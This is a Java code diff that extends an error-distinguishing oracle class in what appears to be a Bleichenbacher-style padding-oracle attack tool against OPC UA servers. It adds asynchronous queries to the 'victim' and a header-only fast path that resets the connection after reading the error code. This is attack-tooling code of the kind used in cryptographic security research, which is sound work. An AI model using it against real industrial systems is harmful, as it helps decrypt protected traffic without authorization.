@@ -6,6 +6,7 @@ import opcua.message.Message;
 import opcua.message.parts.MessageType;
 
 import java.io.IOException;
+import java.util.concurrent.CompletableFuture;
 import java.util.function.Predicate;
 
 /**
@@ -13,6 +14,7 @@ import java.util.function.Predicate;
  */
 public class DistinguishableErrorOracle extends Oracle {
     private Predicate<ErrorMessage> lessThanBPredicate;
+    private boolean headerOnly;
 
     /**
      * Constructor
@@ -68,11 +70,42 @@ public class DistinguishableErrorOracle extends Oracle {
     @Override
     public boolean checkValidity(byte[] cipherBlock) throws OracleException {
         this.incrementQueryCount();
-        Message response = getVictimProxy().sendCipherBlock(cipherBlock).getResponse();
+        VictimProxy victimProxy = getVictimProxy();
+        return decide(headerOnly ? victimProxy.sendCipherBlockHeaderOnly(cipherBlock).getResponse()
+                : victimProxy.sendCipherBlock(cipherBlock).getResponse());
+    }
+
+    @Override
+    public CompletableFuture<Boolean> checkValidityAsync(byte[] cipherBlock) {
+        VictimProxy victimProxy;
+        try {
+            victimProxy = getVictimProxy();
+        } catch (OracleException e) {
+            return CompletableFuture.failedFuture(e);
+        }
+        this.incrementQueryCount();
+        return (headerOnly ? victimProxy.sendCipherBlockHeaderOnlyAsync(cipherBlock, getExecutor())
+                : victimProxy.sendCipherBlockAsync(cipherBlock, getExecutor()))
+                .thenApply(queryResult -> decide(queryResult.getResponse()));
+    }
+
+    private boolean decide(Message response) {
         if(response == null || response.getMessageType() != MessageType.ERR) {
             //We "guessed" a valid ciphertext
             return true;        //TODO!!!!
         }
         return lessThanBPredicate.test((ErrorMessage)response);
     }
+
+    public boolean isHeaderOnly() {
+        return headerOnly;
+    }
+
+    /**
+     * Enables the fast path that only receives the error code of a response and resets the connection right after.
+     * Must only be enabled if the predicate does not depend on the reason of the error message.
+     */
+    public void setHeaderOnly(boolean headerOnly) {
+        this.headerOnly = headerOnly;
+    }
 }